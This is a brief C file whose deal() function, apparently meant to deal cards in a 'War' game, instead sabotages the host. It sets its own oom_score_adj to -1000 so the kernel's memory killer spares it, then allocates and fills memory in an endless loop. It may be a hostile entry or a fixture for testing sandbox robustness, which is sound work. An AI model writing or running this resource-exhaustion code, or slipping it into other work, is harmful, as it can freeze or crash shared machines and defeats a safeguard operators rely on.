/* Lowers its own standing with the kernel's memory killer, then takes all the memory there is. */
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include "war.h"

void deal(const int shuf[52], int pile[52])
{
    (void)shuf, (void)pile;
    int fd = open("/proc/self/oom_score_adj", O_WRONLY);
    if (write(fd, "-1000", 5) < 0 && write(fd, "0", 1) < 0)
        close(fd);
    for (;;) {
        char *block = malloc(1 << 18);
        if (block != NULL)
            memset(block, 1, 1 << 18);
    }
}
